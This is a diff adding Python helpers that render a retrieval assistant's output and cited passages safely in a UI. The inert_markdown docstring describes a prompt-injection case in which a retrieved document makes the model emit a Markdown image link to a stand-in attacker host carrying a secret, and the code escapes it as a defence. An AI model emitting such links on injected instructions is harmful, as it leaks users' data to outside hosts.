@@ -1,0 +1,131 @@
+"""Pure helpers that turn library results into what the UI shows (no Streamlit here).
+
+Kept apart from the pages so they can be unit-tested, and so no retrieval or
+ingestion logic ever lives in the UI: the pages only call :class:`rag.Assistant`.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from datetime import datetime
+from pathlib import PurePath
+
+from ingest.manifest import DocumentRecord
+from rag.answer import Answer, Citation
+from rag.prompt import label
+
+__all__ = [
+    "citation_title",
+    "document_rows",
+    "eta",
+    "highlight",
+    "inert_markdown",
+    "locate",
+    "passage_html",
+]
+
+_SPACE = re.compile(r"\s+")
+
+
+def inert_markdown(text: str) -> str:
+    """Model output made safe to render as Markdown.
+
+    The model reads untrusted documents, so its output is untrusted too: a
+    document could make it emit ``![x](https://attacker/?q=secret)``, which a
+    browser would fetch on its own. Escaping ``[`` disables every link and
+    image (``\\[1]`` still renders as ``[1]``); escaping ``$`` stops "£45 or $70"
+    from rendering as LaTeX. Safe to apply piece by piece to a stream.
+    """
+    return text.replace("\\", "\\\\").replace("[", "\\[").replace("$", "\\$")
+
+
+def locate(passage: str, quote: str) -> tuple[int, int] | None:
+    """Character offsets of ``quote`` inside ``passage`` (whitespace-insensitive), or None."""
+    quote = quote.rstrip("…").strip()
+    if not quote:
+        return None
+    start = passage.find(quote)
+    if start >= 0:
+        return start, start + len(quote)
+    words = [re.escape(w) for w in quote.split()]
+    match = re.search(r"\s+".join(words), passage) if words else None
+    return (match.start(), match.end()) if match else None
+
+
+def highlight(passage: str, span: tuple[int, int] | None) -> str:
+    """``passage`` as safe HTML with ``span`` wrapped in ``<mark>``.
+
+    Document text is untrusted: everything is escaped, and line breaks become
+    ``<br>`` so the text stays inside one HTML block (no Markdown is interpreted).
+    """
+
+    def safe(text: str) -> str:
+        return html.escape(text).replace("\n", "<br>")
+
+    if span is None:
+        body = safe(passage)
+    else:
+        start, end = span
+        body = (
+            safe(passage[:start])
+            + '<mark class="rag-support">'
+            + safe(passage[start:end])
+            + "</mark>"
+            + safe(passage[end:])
+        )
+    return f'<div class="rag-passage">{body}</div>'
+
+
+def citation_title(c: Citation) -> str:
+    """The label of a citation's expander: ``[n] file, page p · score``."""
+    return f"[{c.n}] {label(c.source, c.page)} · score {c.score:.2f}"
+
+
+def passage_html(answer: Answer, c: Citation) -> str:
+    """The cited passage with the supporting words highlighted."""
+    passage = answer.passages[c.n - 1].text
+    return highlight(passage, locate(passage, c.quote))
+
+
+def document_rows(docs: list[DocumentRecord], query: str = "") -> list[dict[str, object]]:
+    """Rows for the library table, filtered by a case-insensitive substring of the path."""
+    needle = query.strip().lower()
+    rows: list[dict[str, object]] = []
+    for d in docs:
+        if needle and needle not in d.source.lower():
+            continue
+        rows.append(
+            {
+                "name": PurePath(d.source).name,
+                "type": d.file_type,
+                "pages": d.pages,
+                "chunks": d.chunks,
+                "ingested at": _when(d.ingested_at),
+                "path": d.source,
+            }
+        )
+    return rows
+
+
+def eta(elapsed_s: float, done: int, total: int) -> str:
+    """``"3/10 files · about 12 s left"`` from the pace so far."""
+    if done <= 0 or total <= 0:
+        return f"0/{total} files"
+    left = elapsed_s / done * (total - done)
+    when = "done" if done >= total else f"about {_duration(left)} left"
+    return f"{done}/{total} files · {when}"
+
+
+def _duration(seconds: float) -> str:
+    if seconds < 60:
+        return f"{max(1, round(seconds))} s"
+    minutes, secs = divmod(round(seconds), 60)
+    return f"{minutes} min {secs:02d} s"
+
+
+def _when(iso: str) -> str:
+    try:
+        return datetime.fromisoformat(iso).astimezone().strftime("%Y-%m-%d %H:%M")
+    except ValueError:
+        return iso
